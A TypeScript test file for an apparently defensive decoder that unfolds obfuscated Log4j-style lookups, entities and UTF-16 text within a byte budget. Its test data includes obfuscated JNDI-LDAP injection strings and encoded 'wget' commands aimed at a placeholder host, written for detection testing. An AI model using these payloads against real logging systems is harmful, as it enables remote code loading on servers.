// What hides text comes off as its writer meant it, and looking at it ends where the budget does: bytes counted, not timed.
// biome-ignore-all lint/suspicious/noTemplateCurlyInString: these are payloads, not templates

import assert from 'node:assert/strict';
import test from 'node:test';
import { viewBytes } from '../session-view.ts';
import { decodeEntities, findWideText, foldLookups } from './decoding.ts';
import { FactList } from './fact-list.ts';
import { takeText, textBudget } from './hidden-text.ts';

test('look-ups are folded from the inside out; those of the victim stay', () => {
  for (const [text, wanted] of [
    ['${${lower:J}ndi:ldap://a.b}', '${jndi:ldap://a.b}'],
    ['${${::-j}${env:NONE:-n}di:x}', '${jndi:x}'],
    ['${JNDI:x}', '${jndi:x}'],
    ['a${${lower:}-}b', 'a${-}b'],
    ['${upper:a}${java:version}', 'A${java:version}'],
    ["${date:'j'}${date:yyyy}", 'j${date:yyyy}'],
    ['${base64:d2dldCBhLmI=}', 'wget a.b'],
    ['${a:-b}${c${d}', 'b${c${d}'],
    ['${${${x}:-y}:-z}', 'z'],
    [':-${a}}', ':-${a}}'],
  ] as const)
    assert.equal(foldLookups(text), wanted, text);
  const deep = '${'.repeat(70) + 'a'.repeat(5) + '}'.repeat(70);
  assert.equal(foldLookups(deep), deep);
});

test('entities and UTF-16 are read where they are whole', () => {
  assert.equal(decodeEntities('&#x;&#65;&#x42;&amp;&#999;&nosuch;'), '&#x;AB&&#999;&nosuch;');
  assert.equal(findWideText('\0\0w\0g\0e\0t\0 \0a\0\0\0b\0'), 'wget a\n');
});

test('layers in layers are looked at within three times what is looked at of a session', () => {
  const filler = `%2525252541${'${a} wget \\u0041 '.repeat(viewBytes)}`.slice(0, viewBytes);
  const left = textBudget();
  takeText('value', filler, new FactList('192.0.2.1'), left);
  assert.equal(left.bytes, 0);
  const several = textBudget();
  for (let count = 0; count < 1000; count += 1) takeText('value', '%2541%41 text', new FactList('192.0.2.1'), several);
  assert.equal(several.pieces, 0);
});
